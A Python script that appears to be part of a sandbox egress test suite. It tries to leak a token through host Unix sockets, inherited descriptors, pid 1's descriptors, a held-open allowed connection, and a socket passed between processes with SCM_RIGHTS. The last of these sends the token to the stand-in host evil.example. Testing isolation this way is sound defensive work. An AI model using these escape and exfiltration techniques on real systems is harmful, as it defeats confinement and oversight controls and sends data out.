#!/usr/bin/env python3
"""Attempts by what is there already: sockets of the host, descriptors, a connection made earlier. See common.py."""
import array
import os
import socket
import stat
import time

from common import ALLOWED, connect, main, request, talk

SHARED = "/tmp/egress-passed"


def unix(token, path):
    connection = socket.socket(socket.AF_UNIX)
    connection.settimeout(1)
    connection.connect("\0" + path[1:] if path.startswith("@") else path)
    return talk(connection, token)


def descriptors(token):
    """Anything but its three streams that this process was born with, and any socket among them."""
    odd = []
    for each in range(4096):
        try:
            kind = os.fstat(each).st_mode
        except OSError:
            continue
        if each > 2 or not (stat.S_ISFIFO(kind) or os.readlink(f"/proc/self/fd/{each}") == "/dev/null"):
            odd.append((each, os.readlink(f"/proc/self/fd/{each}")))
    return repr(odd).encode() if odd else b""


def parent(token):
    """pid 1 holds pipes of ours."""
    return b"".join(os.readlink(f"/proc/1/fd/{each}").encode() for each in os.listdir("/proc/1/fd"))


def keep(token):
    """Holds an allowed connection open until it is told to go on, and then says more."""
    connection = connect("small.example", 9000)
    connection.sendall(b"before")
    connection.recv(5)
    print("kept", flush=True)
    while not os.path.exists(SHARED):
        time.sleep(0.02)
    return talk(connection, token)


def passed(token):
    """Leaves a process behind that gives its connection away."""
    connection = connect(ALLOWED, 80)
    connection.sendall(request(ALLOWED, b"before"))
    connection.recv(5)
    desk = socket.socket(socket.AF_UNIX)
    desk.bind(SHARED)
    desk.listen()
    if os.fork() == 0:
        os.setsid()
        for stream in range(3):
            os.dup2(os.open("/dev/null", os.O_RDWR), stream)
        taker, _ = desk.accept()
        taker.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [connection.fileno()]))])
        time.sleep(20)
        os._exit(0)


def take(token):
    taker = socket.socket(socket.AF_UNIX)
    taker.connect(SHARED)
    _, (rights,), _, _ = taker.recvmsg(1, socket.CMSG_SPACE(4))
    descriptor = array.array("i", rights[2])[0]
    os.unlink(SHARED)
    return talk(socket.socket(fileno=descriptor), request("evil.example", token))


main({"unix": unix, "descriptors": descriptors, "parent": parent, "keep": keep, "pass": passed, "take": take})
